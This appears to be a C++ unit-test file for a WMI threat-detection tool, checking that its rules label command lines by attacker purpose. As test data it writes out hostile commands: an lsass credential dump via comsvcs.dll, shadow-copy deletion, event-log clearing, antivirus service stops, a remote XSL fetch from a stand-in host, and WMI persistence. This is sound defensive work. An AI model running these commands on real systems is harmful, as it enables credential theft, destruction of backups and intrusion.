// SPDX-License-Identifier: Apache-2.0
//
// The purpose rules held against their evidence, and against commands as they are typed.
#include <gtest/gtest.h>

#include <algorithm>
#include <map>
#include <set>
#include <string>

#include "base/ascii.h"
#include "base/format.h"
#include "content/embedded.h"
#include "content/yaml.h"
#include "context/judge/payload.h"
#include "context/judge/purposes.h"
#include "engine/purpose_judge.h"
#include "rules/rule_error.h"
#include "rules/sigma/document.h"

namespace wmiscope {
namespace {

PurposeJudge& judge() {
  static const auto loaded = PurposeJudge::load();
  if (!loaded) ADD_FAILURE() << loaded.error();
  return **loaded;
}

// A flat JSON object of strings, as evidence lines are.
class FlatObject {
 public:
  explicit FlatObject(std::string_view line) : line_(line) {}

  std::map<std::string, std::string> parse() {
    std::map<std::string, std::string> members;
    while (skip_to_string()) {
      const std::string name = string();
      if (!skip_to_string()) break;
      members[name] = string();
    }
    return members;
  }

 private:
  bool skip_to_string() {
    at_ = line_.find('"', at_);
    return at_ != std::string_view::npos;
  }

  std::string string() {
    std::string out;
    for (++at_; at_ < line_.size() && line_[at_] != '"'; ++at_) {
      if (line_[at_] != '\\') {
        out += line_[at_];
        continue;
      }
      const char c = line_[++at_];
      out += c == 'n' ? '\n' : c == 't' ? '\t' : c;
    }
    ++at_;
    return out;
  }

  std::string_view line_;
  std::size_t at_ = 0;
};

Payload payload_of(std::string_view line) {
  Payload payload;
  for (const auto& [name, value] : FlatObject(line).parse()) {
    const auto fields = payload_fields();
    const auto at = std::ranges::find(fields, name, &PayloadField::name);
    if (at == fields.end()) {
      ADD_FAILURE() << "no field " << name << " in " << line;
      continue;
    }
    payload.*at->member = value;
  }
  return payload;
}

std::vector<std::string_view> lines_of(std::string_view text) {
  std::vector<std::string_view> lines;
  while (!text.empty()) {
    const std::size_t end = std::min(text.find('\n'), text.size());
    if (end > 0) lines.push_back(text.substr(0, end));
    text.remove_prefix(std::min(end + 1, text.size()));
  }
  return lines;
}

// The files of content/purposes that have a rule which matches.
std::set<std::string> matching_files(const Payload& payload) {
  std::set<std::string> files;
  for (const std::string& id : judge().matching(payload))
    files.insert(judge().book().find(id)->file);
  return files;
}

TEST(Purposes, EvidenceHolds) {
  for (const EmbeddedFile& file : embedded_yaml("purposes")) {
    const std::string folder(file.path.substr(0, file.path.size() - std::string(".yml").size()));
    for (const auto& [name, expected, least] :
         {std::tuple("match", true, 2u), std::tuple("no_match", false, 3u)}) {
      const auto lines = lines_of(embedded_file(format("{}/{}.jsonl", folder, name)));
      EXPECT_GE(lines.size(), least) << folder << " " << name;
      for (const std::string_view line : lines) {
        const auto files = matching_files(payload_of(line));
        EXPECT_EQ(files.contains(std::string(file.path)), expected) << folder << ": " << line;
      }
    }
  }
}

TEST(Purposes, EveryRuleIsShownByItsEvidence) {
  std::set<std::string> shown;
  for (const EmbeddedFile& file : embedded_files()) {
    if (!file.path.starts_with("purposes/") || !file.path.ends_with("/match.jsonl")) continue;
    for (const std::string_view line : lines_of(file.text)) {
      for (const std::string& id : judge().matching(payload_of(line))) shown.insert(id);
    }
  }
  for (const PurposeRule& rule : judge().book().rules()) {
    EXPECT_TRUE(shown.contains(rule.id)) << rule.file << ": " << rule.why;
  }
}

TEST(Purposes, EveryWordHasARuleAndATechnique) {
  std::set<std::string_view> purposes;
  for (const PurposeRule& rule : judge().book().rules()) {
    purposes.insert(rule.purpose);
    EXPECT_FALSE(rule.mitre_attack.empty()) << rule.file;
    EXPECT_GT(rule.rank, 0) << rule.file;
  }
  for (const std::string_view word : purpose_words()) {
    EXPECT_TRUE(purposes.contains(word)) << word;
  }
}

// The purposes, ranked, joined by blanks.
std::string purposes_of(const std::vector<Payload>& payloads) {
  std::string out;
  for (const Purpose& each : judge().purposes(payloads)) {
    out += (out.empty() ? "" : " ") + each.purpose;
    EXPECT_FALSE(each.why.empty()) << each.purpose;
  }
  return out;
}

TEST(Purposes, OfWmicCommands) {
  struct Case {
    const char* line;
    const char* purposes;
  };
  constexpr Case kCases[] = {
      {"wmic useraccount get /ALL /format:csv", "account-recon"},
      {"wmic computersystem list full /format:csv", "host-recon"},
      {"wmic process get caption,executablepath,commandline /format:csv", "process-recon"},
      {"wmic OS get Caption,OSArchitecture,Version", "host-recon"},
      {"wmic /user:DOMAIN\\Administrator /password:x /node:17.12.0.1 process call create "
       "notepad.exe",
       "lateral-movement"},
      {R"(wmic service where "caption like '%%Sophos%%'" call stopservice)", "defense-evasion"},
      {R"(wmic process where "commandline like "%%%%node server/index.js%%%%"" call terminate)",
       "system-control"},
      {R"(wmic nteventlog where filename="security" cl)", "defense-evasion"},
      {R"(wmic process list /format:"https://a.example/x.xsl")",
       "command-and-control code-execution"},
      {"wmic process call create calc.exe", "code-execution"},
      {"wmic process call create \"cmd /c net user bad P@ss /add\"",
       "account-change code-execution"},
      {"wmic shadowcopy delete", "recovery-inhibition"},
      {R"(wmic shadowcopy call create "ClientAccessible","true","C:\")", ""},
      {R"(wmic /namespace:\\root\securitycenter2 path antivirusproduct get displayname)",
       "antivirus-detection"},
      {"wmic /node:srv process list brief", "process-recon"},
      {R"(wmic /output:\\srv\s\o.txt qfe list)", "collection-exfiltration host-recon"},
      {"wmic rdtoggle where allowtsconnections=0 call setallowtsconnections 1", "system-control"},
      {"wmic useraccount where name='x' set passwordexpires=false", "account-change"},
      {"wmic os where primary=true call reboot", "system-control"},
      {"wmic product where \"name like '%x%'\" call uninstall /nointeractive", "defense-evasion"},
      {"wmic bios get serialnumber", "vm-detection"},
      {"wmic foo", ""},
  };
  for (const Case& c : kCases) {
    const WmicCommand wmic = parse_wmic(c.line);
    std::vector<Payload> payloads;
    add_payloads(wmic, c.line, wmic.is_remote(), payloads);
    EXPECT_EQ(purposes_of(payloads), c.purposes) << c.line;
  }
}

TEST(Purposes, OfChildren) {
  struct Case {
    const char* line;
    bool remote;
    const char* purposes;
  };
  constexpr Case kCases[] = {
      {R"(cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1)", true, "lateral-movement"},
      {R"(cmd.exe /Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1556656369.7 2>&1)", true,
       "lateral-movement account-recon"},
      {"notepad.exe", false, "code-execution"},
      {"powershell $env:I4Pzl|.(Get-C`ommand ('{1}e{0}'-f'x','i'))", true,
       "lateral-movement command-and-control"},
      {R"(powershell.exe -NoP -C "C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump (Get-Process lsass).Id \Windows\Temp\2V7Be7Gq.dmp full")",
       true, "credential-access lateral-movement"},
      {"cmd /c wmic shadowcopy delete", true, "recovery-inhibition lateral-movement"},
      {"powershell -enc RwBlAHQALQBXAG0AaQBPAGIAagBlAGMAdAAgAFcAaQBuADMAMgBfAEIASQBPAFMA", true,
       "lateral-movement vm-detection"},
      {"ping -n 3 127.0.0.1", true, "lateral-movement"},
  };
  for (const Case& c : kCases) {
    std::vector<Payload> payloads;
    add_child(c.line, "", c.remote, payloads);
    EXPECT_EQ(purposes_of(payloads), c.purposes) << c.line;
  }
}

// The judge trusts the project's own rules; here each is looked at as a stranger's would be.
TEST(Purposes, RulesHoldAgainstEveryCheck) {
  FieldTable table = payload_field_table();
  std::size_t rules = 0;
  for (const EmbeddedFile& file : embedded_yaml("purposes")) {
    RuleErrors errors(std::string(file.path), file.text);
    const auto documents = parse_yaml(file);
    ASSERT_TRUE(documents.has_value()) << file.path;
    rules += sigma::parse_rules(*documents, file.text, table, errors).size();
    for (const RuleError& error : errors.take()) ADD_FAILURE() << to_text(error);
  }
  EXPECT_GT(rules, 25U);
}

TEST(Purposes, OfPowerShell) {
  struct Case {
    const char* script;
    const char* purposes;
  };
  constexpr Case kCases[] = {
      {"(Get-WmiObject -ClassName Win32_OperatingSystem).LastBootUpTime", "host-recon"},
      {"Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}", "recovery-inhibition"},
      {"gwmi Win32_Service -Filter \"Name='WinDefend'\" | Invoke-WmiMethod -Name StopService",
       "defense-evasion"},
      {"Invoke-WmiMethod -ComputerName SRV Win32_Process Create 'calc.exe'", "lateral-movement"},
      {"Invoke-CimMethod Win32_Process -MethodName Create -Arguments @{CommandLine='calc'}",
       "code-execution"},
      {"Set-WmiInstance -Namespace root/subscription -Class __EventFilter -Arguments @{Name='x'}",
       "persistence"},
      {"Get-WmiObject -Namespace root/subscription -Class __EventFilter", ""},
      {"Register-WmiEvent -Class Win32_ProcessStartTrace -Action { 1 }", ""},
      {"$p = [wmiclass]'Win32_Process'", ""},
  };
  for (const Case& c : kCases) {
    std::vector<Payload> payloads;
    add_script_words(c.script, payloads);
    for (const WmiCall& call : find_wmi_calls(c.script)) {
      add_payloads(call, is_remote(call), payloads);
    }
    EXPECT_EQ(purposes_of(payloads), c.purposes) << c.script;
  }
}

TEST(Purposes, OfSubscriptionsAndRequests) {
  std::vector<Payload> script;
  add_consumer(ConsumerKind::kScript,
               "var u=\"http://a.example\"; GetObject('winmgmts:').ExecQuery('select * from "
               "Win32_OperatingSystem')",
               script);
  EXPECT_EQ(purposes_of(script), "persistence command-and-control host-recon");
  std::vector<Payload> log;
  add_consumer(ConsumerKind::kEventLog, "Service Control Manager", log);
  EXPECT_EQ(purposes_of(log), "");
  std::vector<Payload> request;
  add_operation(
      *parse_wmi_operation(
          R"(Start IWbemServices::ExecMethod - root\cimv2 : \\H\ROOT\CIMV2:Win32_NTEventlogFile.Name="C:\\x\\System.evtx"::cleareventlog)"),
      false, request);
  EXPECT_EQ(purposes_of(request), "defense-evasion");
  std::vector<Payload> trigger;
  add_query("SELECT * FROM Win32_ProcessStartTrace", "root\\cimv2", trigger);
  EXPECT_TRUE(trigger.empty());
}

TEST(Purposes, ReasonsAreCut) {
  std::vector<Payload> payloads;
  add_child("cmd /c whoami & " + std::string(5000, 'x'), "", false, payloads);
  for (const Purpose& each : judge().purposes(payloads)) EXPECT_LT(each.why.size(), 300u);
}

}  // namespace
}  // namespace wmiscope
